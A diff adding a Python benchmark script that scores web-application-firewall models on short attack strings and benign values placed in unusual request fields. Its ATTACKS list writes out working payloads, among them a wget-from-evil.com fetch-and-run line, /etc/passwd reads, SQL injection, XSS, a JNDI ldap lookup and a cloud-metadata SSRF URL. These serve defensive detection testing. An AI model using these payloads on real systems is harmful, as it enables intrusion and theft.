@@ -1,0 +1,62 @@
+"""Short classic payloads and short benign values in fields of endpoints no template has.
+
+The corpora put payloads into a few fixed fields; this asks whether a model judges the
+value or the field: 23 classic payloads (SQL, shell, traversal, XSS, SSTI, JNDI, SSRF)
+and 10 ordinary short values, each as a query value of 7 (path, field) pairs that no
+training template uses. Prints misses and false positives per model, and per payload.
+
+    .venv/bin/python benchmarks/short_payloads.py [MODEL_DIR ...]   # default: models/default
+"""
+
+from __future__ import annotations
+
+import argparse
+import sys
+from collections import Counter
+from pathlib import Path
+from urllib.parse import quote
+
+if __package__ in (None, ""):
+    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+from waf_proxy.engine.artifacts import load_scorer
+from waf_proxy.inspect import RequestView
+
+ATTACKS = (
+    "127.0.0.1;cat /etc/passwd", "127.0.0.1 | id", "8.8.8.8 && whoami", "`id`", "$(cat /etc/passwd)",
+    "x;wget http://evil.com/s.sh -O /tmp/s;sh /tmp/s", "1;ls -la", "; uname -a", "|| ping -c 10 127.0.0.1",
+    "admin'--", "admin' or '1'='1", "1 or 1=1", "' union select null,null--", "1; drop table users",
+    "1' and sleep(5)#", "../../etc/passwd", "..%2f..%2fwindows/win.ini", "<svg onload=alert(1)>",
+    "<script>alert(1)</script>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://x.com/a}",
+    "http://169.254.169.254/latest/meta-data/",
+)
+BENIGN = ("o'brien", "it's fine", "select a size", "rock & roll", "c++ vs c#", "50% off", "1-2 days",
+          "john.doe@example.com", "drop me a line", "hello world")
+FIELDS = (("/ping", "host"), ("/account", "username"), ("/files", "file"), ("/x", "q"), ("/api/run", "cmd"),
+          ("/search", "term"), ("/login", "email"))
+
+
+def scores(scorer, values: tuple[str, ...]) -> list[tuple[str, str, float]]:
+    views = [RequestView("GET", path, f"{field}={quote(v)}") for path, field in FIELDS for v in values]
+    keys = [(field, v) for _, field in FIELDS for v in values]
+    return [(f, v, r.score) for (f, v), r in zip(keys, scorer.score_batch(views))]
+
+
+def main(argv: list[str] | None = None) -> int:
+    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    ap.add_argument("models", nargs="*", default=["models/default"])
+    args = ap.parse_args(argv)
+    print("| model | attacks missed | benign flagged | missed most |")
+    print("|---|---:|---:|---|")
+    for model in args.models:
+        scorer = load_scorer(model, threads=1)
+        missed = [(f, v) for f, v, s in scores(scorer, ATTACKS) if s < scorer.threshold]
+        flagged = [(f, v) for f, v, s in scores(scorer, BENIGN) if s >= scorer.threshold]
+        top = ", ".join(f"`{v}` ({n})".replace("|", "\\|") for v, n in Counter(v for _, v in missed).most_common(4))
+        print(f"| {model} ({scorer.version}) | {len(missed)} / {len(ATTACKS) * len(FIELDS)} "
+              f"| {len(flagged)} / {len(BENIGN) * len(FIELDS)} | {top} |")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
